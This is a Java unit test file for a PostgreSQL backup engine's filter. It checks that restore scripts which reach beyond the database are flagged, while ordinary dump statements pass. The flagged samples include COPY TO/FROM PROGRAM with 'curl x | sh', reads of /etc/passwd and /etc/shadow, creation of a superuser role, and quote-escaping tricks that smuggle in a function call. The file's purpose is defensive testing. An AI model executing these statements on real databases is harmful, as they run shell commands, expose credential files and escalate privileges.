package dev.dbbackup.engine.postgres;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Optional;
import org.junit.jupiter.api.Test;

class ForeignStatementsTest {

    @Test
    void statementsThatReachBeyondTheDatabaseAreNamed() {
        for (String sql : new String[] {"COPY t TO PROGRAM 'id'", "copy t from program 'curl x | sh'", "COPY t FROM '/etc/passwd'",
                "COPY (SELECT 1) TO '/tmp/x'", "COPY t FROM STDIN WITH (FORMAT csv) -- x\n; COPY t TO PROGRAM 'x'",
                "ALTER SYSTEM SET archive_command = 'x'", "CREATE ROLE evil SUPERUSER", "alter user postgres password 'x'",
                "DROP GROUP g", "DO $$ BEGIN PERFORM 1; END $$", "LOAD 'plugin'", "CALL p()",
                "SELECT evil()", "SELECT pg_catalog.pg_read_file('/etc/shadow')", "SELECT pg_catalog.setval('s', (SELECT evil()), true)",
                "SELECT 'x\\', evil(), '\\'", "SELECT E'\\'', evil(), ''", "SELECT \"evil\" ()", "SELECT public . evil()"}) {
            Optional<String> reason = ForeignStatements.reason(sql);
            assertTrue(reason.isPresent(), sql);
        }
    }

    @Test
    void whatDumpsContainPasses() {
        for (String sql : new String[] {"COPY public.t (a, b) FROM stdin", "COPY \"odd name\" FROM STDIN",
                "SELECT pg_catalog.set_config('search_path', '', false)", "SELECT pg_catalog.setval('public.s', 42, true)",
                "SELECT pg_catalog.lo_create('16401')", "SELECT pg_catalog.lowrite(0, '\\x0102')",
                "SELECT pg_catalog.lo_put('16401', 0, '\\x00'::bytea)", "CREATE USER MAPPING FOR postgres SERVER s",
                "CREATE TABLE t(a int DEFAULT 1)", "SET search_path = ''", "SELECT 'text with f(x) inside'",
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT evil() $$"}) {
            assertEquals(Optional.empty(), ForeignStatements.reason(sql), sql);
        }
    }
}
